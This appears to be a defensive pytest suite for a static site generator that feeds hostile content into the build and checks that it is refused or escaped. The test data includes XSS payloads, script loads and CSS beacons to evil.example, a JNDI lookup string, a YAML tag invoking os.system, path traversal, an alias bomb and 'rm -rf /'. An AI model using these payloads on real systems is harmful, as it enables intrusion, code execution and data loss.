"""A content folder made to do harm: refused at the place to mend or rendered harmless, and it reaches nothing else."""

from __future__ import annotations

import json
import os
import re
import subprocess
from html.parser import HTMLParser
from itertools import product
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from click.testing import CliRunner

from builders import (
    BRIEFING,
    CONCEPTS,
    FERRIES,
    NOTES,
    ORCHARDS,
    RELATIONS,
    SILT,
    SOURCE,
    WATER,
    a_content,
    findings,
)
from digitrend.cli.main import cli
from site_bench import Bench, command, tree, write
from tables import table

if TYPE_CHECKING:
    from playwright.sync_api import BrowserContext

posix = pytest.mark.skipif(os.name == "nt", reason="Windows has no such files")
SECRET = "root-of-all-evil"  # what stands outside the content, and must not get in
OUTSIDE = {"secret.txt": SECRET, "site.html": "mine"}
ASIDE = {"README": "read me", "LICENSE.txt": "read me"}  # of the content's folder, and no content
ID = "  crossings:\n"
TITLE = "title: Ferries turn to batteries"

# ---- Refused: the text to replace, what with, the code, and where the finding points (the text that begins there)

IDS = {  # ids become file names and addresses
    "up and out": "../../etc/passwd",
    "up and out on Windows": "..\\..\\windows",
    "from the root": "/etc/passwd",
    "a folder": "a/b",
    "this folder": ".",
    "the folder above": "..",
    "a hidden file": ".htaccess",
    "an encoded slash": "a%2fb",
    "a space": '"a b"',
    "capitals": "CROSSINGS",
    "letters that look alike": "сrossings",
    "full width": "ｃrossings",
    "turned around": '"a\\u200fb"',
    "a line break": '"a\\nb"',
    "a dot at the end": "a.",
    "a stream of NTFS": '"c:x"',
    "a tag": '"<script>"',
    "a quote": '"a\\"b"',
    "a wild card": '"*"',
    "a query": '"a?b"',
    "a fragment": '"a#b"',
    "an emoji": "\U0001f600",
    "a template": '"{{ page }}"',
}
TOO_LONG = "a" * 121
VALUES: dict[str, tuple[str, str, str, str, str]] = {
    **{f"an id: {name}": (FERRIES, ID, f"  {new}:\n", "S106", new) for name, new in IDS.items()},
    "an id: too long": (FERRIES, ID, f"  {TOO_LONG}:\n", "S105", TOO_LONG),
    "an id: nothing": (FERRIES, ID, '  "":\n', "S108", '""'),
    "an id: a null character": (FERRIES, ID, '  "a\\0b":\n', "C013", "\\0b"),
    **{
        f"an id: {name}, which the site needs": (FERRIES, ID, f"  {name}:\n", "R012", name)
        for name in ("source", "briefing", "index", "con", "nul", "aux", "com1")
    },
    "an entity called like the page's own parts": (CONCEPTS, "- id: charging\n", "- id: main\n", "R012", "main"),
    "a note called like a paragraph": (NOTES, "- id: no-date\n", "- id: trend-1-1\n", "R012", "trend-1-1"),
    "a former name that leads out": (FERRIES, ID, f"{ID}    aliases: [../../x]\n", "S106", "../../x"),
    "a former name that is a rule": (FERRIES, ID, f'{ID}    aliases: ["x /* :1"]\n', "S106", '"x /*'),
    "a link that is a script": (BRIEFING, "https://creative", "javascript:alert(1)//creative", "S106", "javascript:"),
    "a link that is data": (BRIEFING, "https://creative", "data:text/html,creative", "S106", "data:"),
    "a link that is a file": (BRIEFING, "https://creative", "file:///etc/creative", "S106", "file:"),
    "a link that ends its attribute": (BRIEFING, "https://creative", 'https://x" onclick="creative', "S106", "https:"),
    "a language that ends its attribute": (BRIEFING, "language: en", "language: 'en\" onload=\"x'", "S106", "'en"),
    "an address that is a script": (BRIEFING, TITLE[:6], "site: {url: 'javascript:1'}\ntitle:", "S106", "'javascript"),
    "an address with a password": (BRIEFING, "title:", "site: {url: 'https://a:b@c.d/'}\ntitle:", "S106", "'https"),
    "an address that is a rule": (BRIEFING, "title:", 'site: {url: "https://c.d/\\n/*"}\ntitle:', "S106", '"https'),
    "a period with a path in it": (FERRIES, "2024-01/2024-06", "2024-01/../../x", "S106", "2024-01/.."),
    "a form that is a path": (FERRIES, "form: bars", "form: ../../x", "S104", "../../x"),
    "a formula that is code": (FERRIES, "formula: share", "formula: __import__('os')", "S104", "__import__"),
    "a lead out of the folder": (FERRIES, "lead: passenger-growth", "lead: ../x", "S106", "../x"),
    "a reference out of the folder": (FERRIES, "[[ferry-board]]", "[[../../etc/passwd]]", "R006", "[[../../etc"),
    "the end of CDATA": (FERRIES, "Ferries turn", "Ferries ]]> turn", "R304", "]]> turn"),
    "a picture of another host": (FERRIES, "ferries run", "![x](https://evil.example/x.png) run", "R331", "![x]"),
    "a picture that is a script": (FERRIES, "ferries run", "![x](javascript:x) run", "R331", "![x]"),
    "a link's address elsewhere": (
        FERRIES,
        "      The plan",
        "      [x]: data:x\n\n      The plan",
        "R331",
        "[x]:",
    ),
    "a reference that is a template": (FERRIES, "[[ferry-board]]", "[[{{ page }}]]", "R006", "[[{{"),
    "a number without end": (FERRIES, "value: 12.5", f"value: {'9' * 400}", "C003", "999"),
    "infinity": (FERRIES, "value: 12.5", "value: .inf", "C003", ".inf"),
    "no number": (FERRIES, "value: 12.5", "value: .nan", "C003", ".nan"),
    "code for a number": (FERRIES, "value: 12.5", "value: '1; DROP TABLE'", "S103", "'1; DROP"),
    "a field of Python's": (FERRIES, TITLE, f"__class__: x\n{TITLE}", "S102", "__class__"),
    "a template of one's own": (FERRIES, TITLE, f"template: ../../x\n{TITLE}", "S102", "template"),
    # YAML
    "a tag that runs a command": (FERRIES, TITLE, "title: !!python/object/apply:os.system [id]", "C008", "!!python"),
    "a tag that includes a file": (FERRIES, TITLE, "title: !include /etc/passwd", "C008", "!include"),
    "a tag that reads a variable": (FERRIES, TITLE, "title: !ENV ${HOME}", "C008", "!ENV"),
    "a merge": (FERRIES, TITLE, "<<: {title: x}", "C006", "<<"),
    "an alias of nothing": (FERRIES, TITLE, "title: *x", "C006", "*x"),
    "a key given twice": (FERRIES, TITLE, f"{TITLE}\ntitle: x", "C002", "title: x"),
    "a second document": (FERRIES, TITLE, f"{TITLE}\n---\ntitle: x", "C009", "---"),
    # Characters that cannot be seen, or turn what is seen
    **{
        f"a character: {name}": (FERRIES, "Ferries turn", f"Ferries{letter} turn", "C013", letter)
        for name, letter in {
            "right-to-left override": "\u202e",
            "left-to-right override": "\u202d",
            "right-to-left embedding": "\u202b",
            "right-to-left isolate": "\u2067",
            "first strong isolate": "\u2068",
            "zero-width space": "\u200b",
            "word joiner": "\u2060",
            "invisible times": "\u2062",
            "a tag of the supplementary plane": "\U000e0041",
            "interlinear annotation": "\ufff9",
            "escape": "\x1b",
            "bell": "\x07",
            "null": "\x00",
            "control sequence introducer": "\x9b",
            "line separator": "\u2028",
            "byte order mark": "\ufeff",
            "no character": "\uffff",
            "the placeholder of a figure": "\ue0000\ue001",
        }.items()
    },
    "an escape that turns the text": (FERRIES, TITLE, 'title: "a\\u202Eb"', "C013", "\\u202E"),
    "half a character": (FERRIES, TITLE, 'title: "a\\ud800"', "C013", "\\ud800"),
}


def changed(name: str, old: str, new: str) -> dict[str, str]:
    files = a_content()
    assert old in files[name]
    return {**files, name: files[name].replace(old, new, 1)}


@table(("name", "old", "new", "code", "place"), VALUES.values())
def test_what_would_do_harm_is_refused_at_its_place(name: str, old: str, new: str, code: str, place: str) -> None:
    files = changed(name, old, new)

    found = [one for one in findings(files) if one.code == code]

    assert found, [one.code for one in findings(files)]
    lines = re.split(r"\r\n|\r|\n", files[name])
    assert lines[found[0].at.line - 1][found[0].at.column - 1 :].startswith(place.split("\n", maxsplit=1)[0][:12])
    assert found[0].path == f"content/{name}"
    assert found[0].hint


BOMB = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 12)
)
FILES: dict[str, tuple[bytes, str]] = {
    "a bomb of aliases": (BOMB.encode(), "C006"),
    "a hundred thousand brackets": (b"[" * 100_000, "C007"),
    "a hundred thousand mappings": (b"{a: " * 100_000, "C007"),
    "more than any file may hold": (b"a: b\n" * 300_000, "C005"),
    "bytes of no text": (bytes(range(128, 256)) * 10, "C004"),
    "another encoding": ("title: x".encode("utf-16"), "C004"),
    "nothing at all": (b"", "C012"),
    "a picture": (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "C004"),
    "a program": (b"#!/bin/sh\nrm -rf /\n", "C010"),
}


@pytest.mark.parametrize(("content", "code"), FILES.values(), ids=FILES)
def test_files_that_are_made_to_choke_on_are_refused(content: bytes, code: str) -> None:
    files: dict[str, str | bytes] = {**a_content(), SILT: content}

    assert any(one.code.startswith(code) and one.path == f"content/{SILT}" for one in findings(files))


NAMES = {
    "trends/../../escape.yaml": "C024",
    "trends/03-..yaml": "C025",
    "trends/03-<script>.yaml": "C025",
    "trends/03-a\u202eb.yaml": "C025",
    "trends/03-A.yaml": "C025",
    "trends/03-con.yaml": "R012",
    "entities/../../x.yaml": "C024",
    "evil.yaml": "C024",
    "trends/03-x.yaml.exe": "C028",
    "trends/03-x.html": "C028",
}


@pytest.mark.parametrize(("name", "code"), NAMES.items(), ids=map(repr, NAMES))
def test_names_that_lead_elsewhere_are_refused(name: str, code: str) -> None:
    text = a_content()[ORCHARDS]
    found = findings({**a_content(), name: re.sub(r"(- id: )", r"\1x-", text)})

    assert any(one.code == code for one in found), [one.code for one in found]


# ---- On disk: links, pipes, devices, names


def a_fifo(path: Path) -> None:
    os.mkfifo(path)


def a_link_out(path: Path) -> None:
    (path.parents[2] / "secret.yaml").write_text(f"title: {SECRET}\n", encoding="utf-8")
    path.symlink_to(path.parents[2] / "secret.yaml")


def a_relative_link_out(path: Path) -> None:
    a_link_out(path)
    path.unlink()
    path.symlink_to("../../secret.yaml")


def a_link_to_a_device(path: Path) -> None:
    path.symlink_to("/dev/zero")


def a_link_to_nothing(path: Path) -> None:
    path.symlink_to("/no/such/file")


def a_link_to_itself(path: Path) -> None:
    path.symlink_to(path.name)


def a_folder_for_a_file(path: Path) -> None:
    path.mkdir()


def a_link_to_the_root(path: Path) -> None:
    path.symlink_to("/", target_is_directory=True)


ON_DISK = {  # in the folder of trends
    "03-pipe.yaml": (a_fifo, "C021"),
    "04-link-out.yaml": (a_link_out, "C022"),
    "README": (a_link_out, "C022"),
    "05-relative-link-out.yaml": (a_relative_link_out, "C022"),
    "06-device.yaml": (a_link_to_a_device, "C022"),
    "07-nothing.yaml": (a_link_to_nothing, "C022"),
    "08-itself.yaml": (a_link_to_itself, "C022"),
    "09-folder.yaml": (a_folder_for_a_file, "C024"),
    "10-root.yaml": (a_link_to_the_root, "C022"),
}


@posix
def test_what_is_no_file_of_the_folder_is_neither_read_nor_waited_for(tmp_path: Path) -> None:
    write(tmp_path / "content", a_content())
    for name, (make, _) in ON_DISK.items():
        make(tmp_path / "content" / "trends" / name)

    built = subprocess.run(
        command("build"), cwd=tmp_path, capture_output=True, text=True, timeout=60, check=False, env=_plain()
    )

    assert built.returncode == 1, built.stdout + built.stderr
    told = re.findall(r"^content/trends/(\S+?)(?::\d+:\d+)?: (\w+)", built.stderr, re.MULTILINE)
    assert {name: code for name, (_, code) in ON_DISK.items()}.items() <= dict(told).items()
    assert "Traceback" not in built.stderr
    assert SECRET not in built.stdout + built.stderr
    assert sorted(path.name for path in tmp_path.iterdir() if path.name != "secret.yaml") == ["content"]


def _plain() -> dict[str, str]:
    return {**os.environ, "NO_COLOR": "1", "PYTHONUTF8": "1"}


@posix
def test_what_a_terminal_would_obey_is_not_printed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    files = a_content()
    files[FERRIES] = files[FERRIES].replace(TITLE, "title: a\x1b[2J\x1b]0;owned\x07b\u202ec\nevil\x1b[31m: x")
    write(tmp_path / "content", files)
    name = tmp_path / "content" / "trends" / "03-\x1b[31mred\u202e.yaml"
    name.write_text("title: x\n", encoding="utf-8")

    for arguments in (("check",), ("build",), ("check", "--format", "github")):
        ran = CliRunner().invoke(cli, arguments)
        assert ran.exit_code == 1
        printed = ran.stdout + ran.stderr
        assert "C013" in printed
        assert [hex(ord(each)) for each in printed if not each.isprintable() and each != "\n"] == []


# ---- Rendered harmless: one briefing that is nothing but attempts

RUN = "window.owned=true"
ATTEMPTS = {
    "a script": f"<script>{RUN}</script>",
    "a script in capitals": f"<SCRIPT SRC=//evil.example/x>{RUN}</SCRIPT>",
    "a broken script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "the end of a script": f"</script><script>{RUN}</script>",
    "the end of a style": f"</style><script>{RUN}</script>",
    "the end of a title": f"</title><script>{RUN}</script>",
    "the end of a text area": f"</textarea><script>{RUN}</script>",
    "the end of a comment": f"--><script>{RUN}</script><!--",
    "the end of an attribute": f'" onmouseover="{RUN}" x="',
    "the end of a quoted attribute": f"' onmouseover='{RUN}' x='",
    "a handler": f"<img src=x onerror={RUN}>",
    "a handler of a drawing": f"<svg onload={RUN}>",
    "a handler in a drawing": f"<svg><animate onbegin={RUN} attributeName=x></svg>",
    "a frame": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "an object": "<object data='data:text/html,x'></object>",
    "a style": "<style>*{background:url(//evil.example/css)}</style>",
    "a style attribute": "<p style='background:url(//evil.example/css)'>x</p>",
    "a base": "<base href='//evil.example/'>",
    "a refresh": "<meta http-equiv=refresh content=';url=//evil.example/'>",
    "a form": "<form action='//evil.example/'><button>x</button></form>",
    "a link that is a script": f"[x](javascript:{RUN})",
    "a link that is a script, spelt oddly": f"[x](JaVaScRiPt:{RUN})",
    "a link that is a script, encoded": f"[x](javascript&colon;{RUN})",
    "a link that is a script, in brackets": f"<javascript:{RUN}>",
    "a link that is Visual Basic": "[x](vbscript:msgbox)",
    "a link that is data": "[x](data:text/html,evil)",
    "a link that ends its attribute": f'[x](https://a.example/"onmouseover="{RUN})',
    "a link title that ends its attribute": f"[x](https://a.example/ '\" onmouseover=\"{RUN}')",
    "a template's expression": "{{ page }} {{ self._TemplateReference__context }}",
    "a template's statement": "{% include 'layouts/base.html' %}{% raw %}",
    "a template's comment": "{# x #}",
    "mathematics": f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "nothing of a template": f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "a heap of accents": "a" + "\u0301" * 500,
    "one word without end": "x" * 5000,
    "markup of other systems": "${jndi:ldap://evil.example/x} #{x} <%= x %> <?php x ?>",
}
# Where the attempts are made: the pattern of a field, of which each match takes another attempt.
PROSE = re.compile(
    r"^( *(?:- )?(?:title|subtitle|short|slogan|finding|summary|text|label|measure|subject|place|comparison|note"
    r"|what|gist|conditions|description|gloss|reading|action|object|aim|publisher|edition|licence|reason|author): )"
    r"(?!>|\||upper-landing$)(.+)$",  # the place of an act is an id
    re.MULTILINE,
)


def attempts() -> tuple[dict[str, str], dict[str, set[str]]]:
    """Return a content whose every text is an attempt, and which fields each was tried in."""
    files, tried = a_content(), dict[str, set[str]]()
    waiting = iter([*ATTEMPTS] * 20)
    words = map("".join, product("bdfgk", repeat=4))

    def attempt(found: re.Match[str]) -> str:
        name = next(waiting)
        kind = found[1].strip(" -:")
        if kind in {"short", "slogan"} and len(ATTEMPTS[name]) > 100:
            name = "a script"
        tried.setdefault(name, set()).add(kind)
        own = next(words)  # so that no title names another item's place
        return f"{found[1]}{json.dumps(f'Marked {own} {ATTEMPTS[name]}')}"

    for path in (BRIEFING, FERRIES, ORCHARDS, SILT, WATER, CONCEPTS, NOTES, RELATIONS, SOURCE):
        files[path] = PROSE.sub(attempt, files[path])
    return files, tried


@pytest.fixture(scope="module")
def attempted(one_core: None, tmp_path_factory: pytest.TempPathFactory) -> Bench:  # noqa: ARG001 - in force meanwhile
    """The briefing of attempts, built with an address and as one file too, beside a folder that is none of its."""
    files, tried = attempts()
    assert tried.keys() == ATTEMPTS.keys()
    folder = tmp_path_factory.mktemp("attempts")
    write(folder / "outside", OUTSIDE)
    bench = Bench(folder / "project", {**files, **ASIDE}, base="https://example.org/", single_file=True)
    bench.root.mkdir()
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(bench.root)
        outcome = bench.attempt()
    assert outcome.report is not None, outcome.found
    return bench


class Elements(HTMLParser):
    """What could do anything in a page: elements, attributes, addresses."""

    HARMLESS = ("http://www.w3.org/", "https://", "mailto:", "#", "data:image/svg+xml;base64,", "")

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in {"applet", "base", "embed", "frame", "iframe", "img", "math", "object", "textarea"}:
            self.found.append(f"<{tag}>")
        self.found += [f"{tag} {name}" for name in given if name.startswith("on") or name in {"style", "srcdoc"}]
        for name in {"href", "src", "action", "xlink:href", "formaction"} & given.keys():
            scheme = re.match(r"[\s\0]*([a-z]+):", given[name], re.IGNORECASE)
            if scheme and not given[name].startswith(self.HARMLESS[:-1]):
                self.found.append(f"{tag} {given[name]}")
        if given.get("http-equiv") == "refresh":
            self.found.append(given["content"])


def test_no_attempt_becomes_an_element_a_handler_or_an_address(attempted: Bench) -> None:
    pages = [path for path in attempted.site if path.endswith((".html", ".svg"))]

    assert len(pages) > 40
    assert {path: found for path in pages if (found := Elements(attempted.text(path)).found)} == {}


@table("name", [name for name, attempt in ATTEMPTS.items() if "<" in attempt])
def test_markup_stands_in_no_file_as_it_was_written(attempted: Bench, name: str) -> None:
    written = re.findall(r"<[a-zA-Z/][^>]*>(?:window)?", ATTEMPTS[name])
    telling = [each for each in written if RUN in each or "evil" in each or each.endswith("window")]

    for path, content in attempted.site.items():
        if path.endswith((".html", ".svg")):
            text = re.sub(r"<style>.*?</style>", "", content.decode(), flags=re.DOTALL)  # where a tag is a text
            assert [each for each in telling if each in text] == [], path


def test_every_attempt_is_shown_as_text(attempted: Bench) -> None:
    everything = "".join(attempted.text(path) for path in attempted.site if path.endswith(".html"))

    assert "&lt;script&gt;window.owned=true&lt;/script&gt;" in everything
    assert "{{ page }}" in everything
    assert "{% include" in everything


def test_a_link_to_a_file_of_one_machine_stops_the_build(bench: Bench) -> None:
    found = bench.fails(changed(FERRIES, "text: More ferries", "text: The [more](file:///etc/passwd) ferries"))

    assert {one.code for one in found} == {"V111"}
    assert not (bench.root / "site").exists()


def test_data_files_stay_what_they_are(attempted: Bench) -> None:
    from xml.etree import ElementTree

    for path, content in attempted.site.items():
        if path.endswith(".json"):
            json.loads(content)
        if path.endswith((".xml", ".svg")):
            ElementTree.fromstring(content)
        if path.endswith(".html"):
            for block in re.findall(r'<script type="application/ld\+json">(.*?)</script>', content.decode(), re.DOTALL):
                json.loads(block)
        if path.endswith(".ris"):
            assert all(re.match(r"[A-Z][A-Z0-9]  - ", line) for line in content.decode().splitlines() if line)


def test_nothing_runs_even_where_no_policy_holds(attempted: Bench, open_context: BrowserContext) -> None:
    page = open_context.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: dialog.dismiss())
    kinds = ["index", "whole", "terms", "source", "timeline", "outlook", "connections", "search", "briefing"]
    several = ["figures/index", "figures/crossings", "charts/fleet", "trends/ferries", "issues/silt"]

    for name in (*kinds, *several):
        page.goto((attempted.root / "site" / f"{name}.html").as_uri())
        for button in page.locator(".figure:visible").all()[:2]:
            button.click()
        page.mouse.move(300, 300)
        assert page.evaluate("window.owned") is None, name

    assert [url for url in asked if "evil" in url or not url.startswith(("file:", "data:"))] == []
    page.close()


# ---- Nothing outside is written or read


def test_a_hostile_folder_changes_nothing_outside_the_output(attempted: Bench) -> None:
    folder = attempted.root.parent

    assert tree(folder / "outside") == {name: text.encode() for name, text in OUTSIDE.items()}
    assert tree(attempted.root / "content") == {name: text.encode() for name, text in attempted.content.items()}
    assert sorted(path.name for path in folder.iterdir()) == ["outside", "project"]
    assert sorted(path.name for path in attempted.root.iterdir()) == ["cache", "content", "site"]
    assert not any(SECRET.encode() in raw for raw in attempted.site.values())


def test_there_are_more_than_a_hundred_and_fifty_contents() -> None:
    assert len(VALUES) + len(FILES) + len(NAMES) + len(ON_DISK) + len(ATTEMPTS) > 150
